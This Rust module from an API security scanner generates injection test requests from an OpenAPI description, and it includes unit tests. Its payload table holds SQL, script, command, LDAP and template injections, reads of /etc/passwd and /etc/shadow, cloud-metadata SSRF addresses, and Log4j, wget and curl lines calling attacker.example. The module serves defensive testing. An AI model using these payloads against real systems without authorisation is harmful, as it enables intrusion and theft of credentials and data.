//! What attackers write into free text: SQL, script, commands, ways to files, expressions, code.
//!
//! Only where the description takes the value: whatever a schema refuses is tried in `inputs`.
//! Deliberately not here: names of parameters and properties, which the description refuses too, and
//! any judgement of the texts. They are what the rules of every maker claim to stop.

use fortress_spec::{Operation, parameter::Location};
use serde_json::Value;

use super::{
    Attack, Basis, Kind,
    bodies::is_json,
    inputs::{Step, collect, reach, reach_ref, replace, words},
    plan::Subject,
    valid::{self, Draft, encode},
};

/// The most on one operation.
const MOST: usize = 36;
/// Places of one operation that are tried.
const PLACES: usize = 12;
/// Kinds of payloads; as many follow each other in the table before the first comes again.
const KINDS: usize = 9;

/// One text, and how it is written where it goes.
#[derive(Debug)]
struct Payload {
    kind: Kind,
    what: &'static str,
    text: &'static str,
    written: Written,
}

/// What stands between a text and whoever looks at it.
#[derive(Clone, Copy, Debug)]
enum Written {
    /// As the place demands.
    Plain,
    /// Percent-encoded, and then as the place demands.
    Encoded,
    /// By code points: `\u0027` in JSON, `%u0027` in a query or a form.
    Points,
}

/// Each row holds one of each kind, so that the first are a cross-section.
#[rustfmt::skip]
const PAYLOADS: [Payload; 4 * KINDS] = [
    payload(Kind::InjectedSql, "SQL", "1' OR '1'='1", Written::Plain),
    payload(Kind::InjectedScript, "a script", "<script>alert(1)</script>", Written::Plain),
    payload(Kind::InjectedCommand, "a command", "x; cat /etc/passwd", Written::Plain),
    payload(Kind::InjectedPath, "a way to a file", "../../../../etc/passwd", Written::Plain),
    payload(Kind::InjectedQuery, "a query of a document store", r#"{"$ne":null}"#, Written::Plain),
    payload(Kind::InjectedExpression, "a look-up of Log4j", "${jndi:ldap://attacker.example/a}", Written::Plain),
    payload(Kind::InjectedCode, "PHP", "<?php system('id'); ?>", Written::Plain),
    payload(Kind::InjectedAddress, "the address of a cloud's metadata", "http://169.254.169.254/latest/meta-data/", Written::Plain),
    payload(Kind::InjectedField, "a header field", "x\r\nSet-Cookie: admin=1", Written::Plain),

    payload(Kind::InjectedSql, "SQL, encoded twice", "1' UNION SELECT name, password FROM users-- ", Written::Encoded),
    payload(Kind::InjectedScript, "a script, encoded twice", "<img src=x onerror=alert(1)>", Written::Encoded),
    payload(Kind::InjectedCommand, "a command, encoded twice", "$(wget http://attacker.example/a)", Written::Encoded),
    payload(Kind::InjectedPath, "a way to a file, encoded twice", "../../../../etc/shadow", Written::Encoded),
    payload(Kind::InjectedQuery, "a filter of a directory", "*)(uid=*))(|(uid=*", Written::Plain),
    payload(Kind::InjectedExpression, "a look-up of Log4j in pieces", "${${lower:j}ndi:ldap://attacker.example/a}", Written::Plain),
    payload(Kind::InjectedCode, "Java", "java.lang.Runtime.getRuntime().exec('id')", Written::Plain),
    payload(Kind::InjectedAddress, "a file's address", "file:///etc/passwd", Written::Plain),
    payload(Kind::InjectedField, "a header field, encoded twice", "x\r\nLocation: http://attacker.example/", Written::Encoded),

    payload(Kind::InjectedSql, "SQL with comments for spaces", "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users-- ", Written::Plain),
    payload(Kind::InjectedScript, "a script by code points", "<script>alert(document.cookie)</script>", Written::Points),
    payload(Kind::InjectedCommand, "a command by code points", "x | curl http://attacker.example/a", Written::Points),
    payload(Kind::InjectedPath, "a way to a file with backslashes", r"..\..\..\windows\win.ini", Written::Plain),
    payload(Kind::InjectedQuery, "a condition of a document store", r#"{"$where":"sleep(5000)"}"#, Written::Plain),
    payload(Kind::InjectedExpression, "a template", "{{''.__class__.__mro__[1].__subclasses__()}}", Written::Plain),
    payload(Kind::InjectedCode, "a PHP object", r#"O:8:"Example1":1:{s:4:"file";s:11:"/etc/passwd";}"#, Written::Plain),
    payload(Kind::InjectedAddress, "another protocol's address", "gopher://127.0.0.1:6379/_INFO", Written::Plain),
    payload(Kind::InjectedField, "a header field by code points", "x\r\nSet-Cookie: admin=1", Written::Points),

    payload(Kind::InjectedSql, "SQL in mixed case", "-1 uNiOn SeLeCt name, password fRoM users", Written::Plain),
    payload(Kind::InjectedScript, "a script in mixed case", "<ScRiPt>alert(1)</sCrIpT>", Written::Plain),
    payload(Kind::InjectedCommand, "a command in backquotes", "`cat /etc/passwd`", Written::Plain),
    payload(Kind::InjectedPath, "a file by its path", "/etc/passwd", Written::Plain),
    payload(Kind::InjectedQuery, "a filter of a directory with an or", "admin)(|(password=*))", Written::Plain),
    payload(Kind::InjectedExpression, "an expression of Spring", "#{T(java.lang.Runtime).getRuntime().exec('id')}", Written::Plain),
    payload(Kind::InjectedCode, "PHP by code points", "<?php passthru('id'); ?>", Written::Points),
    payload(Kind::InjectedAddress, "a cloud's metadata by name", "http://metadata.google.internal/computeMetadata/v1/", Written::Plain),
    payload(Kind::InjectedField, "an answer within a value", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", Written::Plain),
];

const fn payload(kind: Kind, what: &'static str, text: &'static str, written: Written) -> Payload {
    Payload {
        kind,
        what,
        text,
        written,
    }
}

/// A share of the payloads for each place that takes free text, so that an operation is sent nearly
/// all of them.
pub(super) fn attacks(subject: &Subject, operation: &Operation, basis: &Basis) -> Vec<Attack> {
    let Some(draft) = valid::drafts(subject, operation).into_iter().next() else {
        return Vec::new();
    };
    let write = |place: &Place, payload: &Payload| {
        let draft = place.write(&draft, payload)?;
        let found = match place {
            Place::Parameter(..) => draft.check_parameters(subject, operation),
            Place::Json(_) | Place::Form(..) => draft.check_body(subject, operation),
        };
        found.is_empty().then_some(draft)
    };
    let free = |place: &Place| {
        let mut one_of_each = PAYLOADS.iter().take(KINDS);
        one_of_each.any(|payload| write(place, payload).is_some())
    };
    let free: Vec<Place> = places(&draft, basis)
        .into_iter()
        .filter(free)
        .take(PLACES)
        .collect();
    let share = MOST / free.len().max(1);
    let mut found = Vec::new();
    for (number, place) in free.iter().enumerate() {
        // Each place goes on where the one before has ended.
        let first = (basis.index * KINDS + number * share) % PAYLOADS.len();
        let turned = PAYLOADS.iter().cycle().skip(first).take(PAYLOADS.len());
        let written = turned.filter_map(|payload| Some((payload, write(place, payload)?)));
        for (payload, draft) in written.take(share) {
            found.push(basis.refused(
                payload.kind,
                format!("{} as `{}`", payload.what, place.name()),
                basis.authorized(draft.request(operation)),
            ));
        }
    }
    found
}

/// Where a text may stand.
#[derive(Debug)]
enum Place {
    Parameter(Location, String),
    /// A string of a JSON body: the steps to it.
    Json(Vec<Step>),
    /// A field of a form: its position and its name as it is written there.
    Form(usize, String),
}

/// Every place of a valid request that may hold a text.
fn places(draft: &Draft, basis: &Basis) -> Vec<Place> {
    let lists = [
        (Location::Query, &draft.query),
        (Location::Path, &draft.path),
        (Location::Header, &draft.headers),
        (Location::Cookie, &draft.cookies),
    ];
    let mut found = Vec::new();
    for (location, list) in lists {
        let names = list.iter().map(|(name, _)| name.clone());
        found.extend(names.map(|name| Place::Parameter(location, name)));
    }
    let Some(body) = &draft.body else {
        return found;
    };
    if is_json(&basis.request) {
        let value: Value = serde_json::from_slice(body).unwrap_or_default();
        let mut all = Vec::new();
        collect(&value, &mut Vec::new(), &mut all);
        let texts = all
            .into_iter()
            .filter(|place| reach_ref(&value, place).is_some_and(Value::is_string));
        found.extend(texts.map(Place::Json));
    } else if draft.content_type.as_deref() == Some("application/x-www-form-urlencoded") {
        for (position, pair) in String::from_utf8_lossy(body).split('&').enumerate() {
            if let Some((name, _)) = pair.split_once('=') {
                found.push(Place::Form(position, name.to_owned()));
            }
        }
    }
    found
}

impl Place {
    fn name(&self) -> String {
        match self {
            Self::Parameter(_, name) | Self::Form(_, name) => name.clone(),
            Self::Json(steps) => format!("body.{}", words(steps)),
        }
    }

    /// The request with the payload here; `None` where it cannot be written.
    fn write(&self, draft: &Draft, payload: &Payload) -> Option<Draft> {
        let mut draft = draft.clone();
        match self {
            Self::Parameter(location, name) => {
                let text = match location {
                    Location::Header => payload.as_field()?,
                    Location::Query => format!("{}={}", encode(name), payload.as_pair()),
                    Location::Cookie => payload.as_pair(),
                    // With these it is another path, and refused as one.
                    Location::Path if payload.text.contains(['/', '\\']) => return None,
                    Location::Path => payload.as_pair(),
                };
                replace(&mut draft, *location, name, Some(&text));
            }
            Self::Json(steps) => {
                // Its place is kept by a text that no example holds, because escapes are not values.
                const KEPT: &str = "fortress-payload-7d1f";
                let mut value: Value = serde_json::from_slice(draft.body.as_ref()?).ok()?;
                *reach(&mut value, steps)? = Value::from(KEPT);
                let text = value.to_string();
                let text = text.replace(&format!("\"{KEPT}\""), &payload.as_json());
                draft.body = Some(text.into_bytes());
            }
            Self::Form(position, name) => {
                let body = String::from_utf8_lossy(draft.body.as_ref()?).into_owned();
                let mut pairs: Vec<String> = body.split('&').map(str::to_owned).collect();
                *pairs.get_mut(*position)? = format!("{name}={}", payload.as_pair());
                draft.body = Some(pairs.join("&").into_bytes());
            }
        }
        Some(draft)
    }
}

impl Payload {
    /// In a query, a path, a form, a cookie.
    fn as_pair(&self) -> String {
        match self.written {
            Written::Plain => encode(self.text),
            Written::Encoded => encode(&encode(self.text)),
            Written::Points => points(self.text, "%u"),
        }
    }

    /// In JSON, with its quotes.
    fn as_json(&self) -> String {
        match self.written {
            Written::Plain => Value::from(self.text).to_string(),
            Written::Encoded => Value::from(encode(self.text)).to_string(),
            Written::Points => format!("\"{}\"", points(self.text, "\\u")),
        }
    }

    /// As the value of a header field, which holds no control characters.
    fn as_field(&self) -> Option<String> {
        let text = match self.written {
            Written::Plain => self.text.to_owned(),
            Written::Encoded => encode(self.text),
            Written::Points => points(self.text, "%u"),
        };
        (!text.contains(|c: char| c.is_ascii_control())).then_some(text)
    }
}

/// All but letters and digits by their code points.
fn points(text: &str, mark: &str) -> String {
    let mut written = String::new();
    for c in text.chars() {
        if c.is_ascii_alphanumeric() {
            written.push(c);
        } else {
            written.push_str(&format!("{mark}{:04x}", u32::from(c)));
        }
    }
    written
}

#[cfg(test)]
mod tests {
    use std::{collections::BTreeSet, sync::Arc};

    use super::*;
    use crate::attack::{Message, Request};

    const DESCRIPTION: &str = r##"openapi: 3.1.0
info: { title: Notes, version: "1" }
paths:
  /notes/{name}:
    post:
      operationId: addNote
      parameters:
        - { name: name, in: path, required: true, schema: { type: string, examples: [tea] } }
        - { name: page, in: query, schema: { type: integer, examples: [1] } }
        - { name: q, in: query, schema: { type: string, examples: [tea] } }
        - { name: X-Reason, in: header, schema: { type: string, examples: [none] } }
        - { name: theme, in: cookie, schema: { type: string, examples: [dark] } }
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              properties:
                text: { type: string }
                kind: { type: string, enum: [a, b] }
                short: { type: string, maxLength: 3 }
              examples: [{ text: hello, kind: a, short: abc }]
      responses: { "204": { description: done } }
  /forms:
    post:
      operationId: send
      requestBody:
        required: true
        content:
          application/x-www-form-urlencoded:
            schema:
              type: object
              properties: { text: { type: string }, count: { type: integer } }
              examples: [{ text: hello, count: 1 }]
      responses: { "204": { description: done } }
"##;

    /// The attacks on the operation with this id, as requests.
    fn made(id: &str) -> Vec<(Attack, Request)> {
        let subject = Subject::sample(DESCRIPTION);
        let operations = &subject.description.operations;
        let index = operations.iter().position(|one| &*one.id == id).unwrap();
        let operation = &operations[index];
        let request = valid::requests(&subject, operation).remove(0);
        let basis = Basis {
            operation: Arc::clone(&operation.id),
            index,
            request,
            bearer: None,
        };
        let attacks = attacks(&subject, operation, &basis);
        let requests = attacks.into_iter().map(|attack| {
            let Message::Request(request) = attack.message.clone() else {
                panic!("{}", attack.what)
            };
            (attack, request)
        });
        requests.collect()
    }

    #[test]
    fn rows_hold_one_of_each_kind() {
        for row in PAYLOADS.chunks(KINDS) {
            let kinds: BTreeSet<Kind> = row.iter().map(|payload| payload.kind).collect();
            assert_eq!(kinds.len(), KINDS);
        }
        let whats: BTreeSet<&str> = PAYLOADS.iter().map(|payload| payload.what).collect();
        assert_eq!(whats.len(), PAYLOADS.len());
    }

    #[test]
    fn they_stand_where_a_text_is_taken_and_nowhere_else() {
        let made = made("addNote");
        assert!(made.len() > 25 && made.len() <= MOST, "{}", made.len());
        let places: BTreeSet<&str> = made
            .iter()
            .map(|(attack, _)| attack.what.rsplit_once(" as ").unwrap().1)
            .collect();
        let expected = ["`X-Reason`", "`body.text`", "`name`", "`q`", "`theme`"];
        assert_eq!(places, expected.into());
        let kinds: BTreeSet<Kind> = made.iter().map(|(attack, _)| attack.kind).collect();
        assert_eq!(kinds.len(), KINDS);
        for (attack, request) in &made {
            assert!(!request.encode("h").is_empty());
            let body = request.body.as_ref().unwrap().bytes();
            assert!(serde_json::from_slice::<Value>(&body).is_ok(), "{attack:?}");
        }
    }

    #[test]
    fn forms_keep_their_other_fields() {
        let made = made("send");
        // Code points in percent signs are no valid encoding.
        assert_eq!(made.len(), MOST - 4);
        for (_, request) in &made {
            let body = String::from_utf8(request.body.as_ref().unwrap().bytes()).unwrap();
            assert!(
                body.contains("count=1") && !body.contains("hello"),
                "{body}"
            );
        }
    }

    #[test]
    fn texts_are_written_as_their_place_demands() {
        let payload = |written| Payload {
            kind: Kind::InjectedSql,
            what: "",
            text: "a' \n",
            written,
        };
        let of = |written| {
            let payload = payload(written);
            (payload.as_pair(), payload.as_json(), payload.as_field())
        };
        let plain = ("a%27%20%0A".into(), r#""a' \n""#.into(), None);
        assert_eq!(of(Written::Plain), plain);
        let field = Some("a%27%20%0A".into());
        let encoded = ("a%2527%2520%250A".into(), r#""a%27%20%0A""#.into(), field);
        assert_eq!(of(Written::Encoded), encoded);
        let field = Some("a%u0027%u0020%u000a".into());
        let points = (
            "a%u0027%u0020%u000a".into(),
            r#""a\u0027\u0020\u000a""#.into(),
            field,
        );
        assert_eq!(of(Written::Points), points);
    }
}
